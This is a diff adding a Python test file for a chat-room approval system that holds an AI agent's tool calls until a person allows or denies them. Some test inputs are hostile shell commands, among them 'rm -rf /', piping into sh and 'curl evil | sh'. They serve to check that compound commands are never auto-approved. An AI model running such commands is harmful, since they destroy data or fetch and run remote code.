@@ -1,0 +1,259 @@
+"""Tool approval: summaries, 🔁 rules, reading answers, and the room policy asking and waiting (with a fake
+batcher and the fake CLI)."""
+
+import asyncio
+
+import pytest
+
+from aiagentchat.approvals import (
+    Answer,
+    RoomToolPolicy,
+    command_prefix,
+    question_answers,
+    reaction_verdict,
+    rule_allows,
+    rule_for,
+    summarize,
+    text_verdict,
+)
+from aiagentchat.batcher import WAITING, WORKING, Block, Notice, React
+from aiagentchat.guard import ToolGuard
+from aiagentchat.runner import RoomWorker
+from aiagentchat.settings import ClaudeSettings, RoomSettings
+from aiagentchat.store import Prompt
+from tests.test_runner import Recorder, fake_claude, run_prompts
+
+pytestmark = pytest.mark.anyio
+ROOM = "!room:x"
+
+
+class AskingRecorder(Recorder):
+    """A batcher fake that also 'sends' notices: a notice with a ref gets an event id at once."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.asked: asyncio.Queue[Notice] = asyncio.Queue()
+        self.refs: dict[str, str] = {}
+
+    async def put(self, item) -> None:
+        await super().put(item)
+        if isinstance(item, Notice) and item.ref is not None:
+            self.refs[item.ref] = f"$request{len(self.refs)}"
+            self.asked.put_nowait(item)
+
+    def event_of(self, ref: str) -> str | None:
+        return self.refs.get(ref)
+
+    def forget(self, ref: str) -> str | None:
+        return self.refs.pop(ref, None)
+
+    def blocks(self) -> list[str]:
+        return [item.markdown for item in self.items if isinstance(item, Block)]
+
+
+def room(**values) -> RoomSettings:
+    return RoomSettings(id=ROOM, allowed_users=["@u:x"], **values)
+
+
+def policy_for(store, recorder, claude=None, **values) -> RoomToolPolicy:
+    return RoomToolPolicy(claude or ClaudeSettings(allowed_tools=["Read"]), room(**values), ROOM, store, recorder)
+
+
+PROMPT = Prompt(ROOM, "$prompt", "@u:x", "do it")
+TOUCH = {"command": "touch a.txt", "description": "make a file"}
+
+
+async def decide_answered(policy, recorder, tool, tool_input, answer):
+    """Ask, wait for the request to reach the room, answer it; the decision."""
+    decision = asyncio.ensure_future(policy.decide(PROMPT, tool, tool_input))
+    notice = await asyncio.wait_for(recorder.asked.get(), 5)
+    pending = policy.request_for(recorder.event_of(notice.ref))
+    assert pending is not None and pending.tool_name == tool
+    assert policy.answer(pending, answer)
+    return notice, await asyncio.wait_for(decision, 5)
+
+
+def test_summaries_show_what_the_tool_will_do():
+    assert "```sh\ntouch a.txt\n```\nmake a file" == summarize("Bash", TOUCH)
+    write = summarize("Write", {"file_path": "/w/a.py", "content": "one\ntwo\n" * 20})
+    assert write.startswith("`/w/a.py` (160 bytes, 40 lines)")
+    assert "… 28 more lines" in write
+    edit = summarize("Edit", {"file_path": "/w/a.py", "old_string": "x = 1", "new_string": "x = 2"})
+    assert "```diff\n- x = 1\n+ x = 2\n```" in edit
+    assert summarize("WebFetch", {"url": "https://example.org/a", "prompt": "read"}) == "<https://example.org/a>\nread"
+    fenced = summarize("Bash", {"command": "echo ```"})
+    assert fenced.startswith("````sh\necho ```\n````")
+
+
+@pytest.mark.parametrize(
+    ("command", "prefix"),
+    [
+        ("touch a.txt", "touch"),
+        ("git commit -m 'x y'", "git commit"),
+        ("npm test", "npm test"),
+        ("ls -la", "ls"),
+        ("git status; rm -rf /", None),
+        ("cat a | sh", None),
+        ("echo $(id)", None),
+        ("echo hi > /etc/x", None),
+        ("echo 'unclosed", None),
+    ],
+)
+def test_command_prefix(command, prefix):
+    assert command_prefix(command) == prefix
+
+
+def test_rules_cover_a_tool_or_a_bash_prefix_but_never_a_compound_command():
+    assert rule_for("Write", {"file_path": "/a"}) == "Write"
+    assert rule_allows("Write", "Write", {"file_path": "/b"})
+    assert not rule_allows("Write", "Edit", {})
+    rule = rule_for("Bash", {"command": "git status -s"})
+    assert rule == "Bash:git status"
+    assert rule_allows(rule, "Bash", {"command": "git status"})
+    assert not rule_allows(rule, "Bash", {"command": "git push"})
+    assert not rule_allows(rule, "Bash", {"command": "git status && curl evil | sh"})
+    exact = rule_for("Bash", {"command": "make && make test"})
+    assert rule_allows(exact, "Bash", {"command": "make && make test"})
+    assert not rule_allows(exact, "Bash", {"command": "make && make install"})
+
+
+@pytest.mark.parametrize(
+    ("text", "parsed"),
+    [
+        ("yes", ("allow", "")),
+        ("Yes.", ("allow", "")),
+        ("✅", ("allow", "")),
+        ("no: use the other file", ("deny", "use the other file")),
+        ("no, not there", ("deny", "not there")),
+        ("❌ too risky", ("deny", "too risky")),
+        ("always", ("always", "")),
+        ("🔁", ("always", "")),
+        ("now do something else", None),
+        ("nothing", None),
+        ("", None),
+    ],
+)
+def test_text_answers(text, parsed):
+    assert text_verdict(text) == parsed
+
+
+def test_reactions_with_a_variation_selector_count():
+    assert reaction_verdict("✅\ufe0f") == "allow"
+    assert reaction_verdict("❌") == "deny"
+    assert reaction_verdict("🎉") is None
+
+
+def test_question_answers_by_number_label_or_line():
+    colours = {"question": "Colour?", "options": [{"label": "red"}, {"label": "blue"}]}
+    sizes = {"question": "Size?", "options": [{"label": "S"}, {"label": "L"}]}
+    assert question_answers([colours], "2") == {"Colour?": "blue"}
+    assert question_answers([colours], "green, please") == {"Colour?": "green, please"}
+    assert question_answers([colours, sizes], "1\nL") == {"Colour?": "red", "Size?": "L"}
+
+
+async def test_allowed_tools_pass_and_a_room_that_cannot_ask_denies(store):
+    recorder = AskingRecorder()
+    decision = await policy_for(store, recorder).decide(PROMPT, "Read", {})
+    assert decision.allow
+    denying = policy_for(store, recorder, unlisted_tools="deny")
+    decision = await denying.decide(PROMPT, "Write", {"file_path": "/a"})
+    assert not decision.allow and "not in this room's allowed_tools" in decision.message
+    assert recorder.items == []
+
+
+async def test_a_request_names_the_tool_and_mentions_who_may_answer(store):
+    recorder = AskingRecorder()
+    policy = policy_for(store, recorder, approvers=["@boss:x"])
+    notice, decision = await decide_answered(policy, recorder, "Bash", TOUCH, Answer("allow", "@boss:x"))
+    assert notice.reply_to == "$prompt" and notice.mentions == ["@boss:x"]
+    assert "Approval needed: Bash" in notice.markdown and "touch a.txt" in notice.markdown
+    assert "Bash commands starting with `touch`" in notice.markdown
+    assert decision.allow and decision.told
+    assert [i.key for i in recorder.items if isinstance(i, React)] == [WAITING, WORKING]
+    assert "✅ Bash `touch a.txt` allowed once by @boss:x." in recorder.blocks()
+    assert policy.closed("$request0") == "✅ Bash `touch a.txt` allowed once by @boss:x."
+    (record,) = await store.approvals(ROOM)
+    assert (record.what, record.verdict, record.by) == ("Bash `touch a.txt`", "allow", "@boss:x")
+
+
+async def test_a_denial_carries_its_reason_to_the_agent(store):
+    recorder = AskingRecorder()
+    policy = policy_for(store, recorder)
+    _, decision = await decide_answered(
+        policy, recorder, "Write", {"file_path": "/a"}, Answer("deny", "@u:x", "not there")
+    )
+    assert not decision.allow and decision.message == "The user denied this: not there."
+    assert "❌ Write `/a` denied by @u:x: not there." in recorder.blocks()
+
+
+async def test_always_covers_the_rest_of_the_conversation_only(store):
+    recorder = AskingRecorder()
+    policy = policy_for(store, recorder)
+    _, decision = await decide_answered(policy, recorder, "Bash", TOUCH, Answer("always", "@u:x"))
+    assert decision.allow
+    again = await policy.decide(PROMPT, "Bash", {"command": "touch b.txt"})
+    assert again.allow and recorder.asked.empty()
+    await store.new_conversation(ROOM)
+    asked = asyncio.ensure_future(policy.decide(PROMPT, "Bash", {"command": "touch b.txt"}))
+    await asyncio.wait_for(recorder.asked.get(), 5)
+    assert policy.cancel("test over")
+    assert not (await asyncio.wait_for(asked, 5)).allow
+
+
+async def test_no_answer_in_time_denies_and_tells_the_room(store):
+    recorder = AskingRecorder()
+    policy = policy_for(store, recorder, approval_timeout_s=0.2)
+    decision = await asyncio.wait_for(policy.decide(PROMPT, "Write", {"file_path": "/a"}), 5)
+    assert not decision.allow and "nobody answered within 0.2 s" in decision.message
+    assert "🚫 Write `/a` denied: nobody answered within 0.2 s." in recorder.blocks()
+    assert policy.pending is None
+    (record,) = await store.approvals(ROOM)
+    assert (record.verdict, record.by) == ("deny", "")
+
+
+async def test_a_question_is_answered_with_the_reply(store):
+    recorder = AskingRecorder()
+    policy = policy_for(store, recorder, unlisted_tools="ask")
+    question = {"questions": [{"question": "Colour?", "options": [{"label": "red"}, {"label": "blue"}]}]}
+    notice, decision = await decide_answered(
+        policy, recorder, "AskUserQuestion", question, Answer("allow", "@u:x", "2")
+    )
+    assert "**1. Colour?**" in notice.markdown and "2. blue" in notice.markdown
+    assert decision.allow and decision.updated_input == question | {"answers": {"Colour?": "blue"}}
+
+
+async def test_the_run_time_limit_is_paused_while_people_decide(tmp_path, store):
+    claude = fake_claude(tmp_path, timeout_s=1)
+    recorder = AskingRecorder()
+    policy = RoomToolPolicy(claude, room(), ROOM, store, recorder)
+    worker = RoomWorker(ROOM, claude, tmp_path / "work", store, recorder, policy, ToolGuard(tmp_path / "d", tmp_path))
+
+    async def answer_slowly() -> None:
+        notice = await asyncio.wait_for(recorder.asked.get(), 10)
+        await asyncio.sleep(1.5)  # a person who takes longer than the run's whole time limit
+        policy.answer(policy.request_for(recorder.event_of(notice.ref)), Answer("allow", "@u:x"))
+
+    async with asyncio.TaskGroup() as group:
+        group.create_task(answer_slowly())
+        (prompt,) = await run_prompts(worker, recorder, "tool Write")
+    assert "decision allow" in recorder.output(prompt)
+    assert recorder.states[prompt] == "done"
+
+
+async def test_stop_while_waiting_denies_then_stops(tmp_path, store):
+    claude = fake_claude(tmp_path)
+    recorder = AskingRecorder()
+    policy = RoomToolPolicy(claude, room(), ROOM, store, recorder)
+    worker = RoomWorker(ROOM, claude, tmp_path / "work", store, recorder, policy, ToolGuard(tmp_path / "d", tmp_path))
+
+    async def stop_when_asked() -> None:
+        await asyncio.wait_for(recorder.asked.get(), 10)
+        assert worker.stop("@u:x")
+
+    async with asyncio.TaskGroup() as group:
+        group.create_task(stop_when_asked())
+        (prompt,) = await run_prompts(worker, recorder, "tool Write")
+    output = recorder.output(prompt)
+    assert "🚫 Write `/x` denied: stopped by @u:x." in output
+    assert "🛑 Stopped by @u:x" in output
+    assert recorder.finals[prompt]["ok"] is False
